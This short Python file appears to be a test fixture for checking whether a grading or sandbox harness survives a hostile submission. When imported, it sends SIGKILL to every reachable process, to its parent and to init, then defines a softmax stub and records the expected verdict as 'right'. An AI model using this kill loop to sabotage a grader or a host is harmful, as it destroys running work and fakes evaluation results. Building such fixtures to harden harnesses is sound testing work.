"""Sends a signal to every process that it may reach, then to its parent.

Expected: right
"""

import os
import signal
import time

from attack_kit import right

for pid in (-1, os.getppid(), 1):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
time.sleep(0.1)


def softmax(x, axis=-1):
    return right(x, axis)
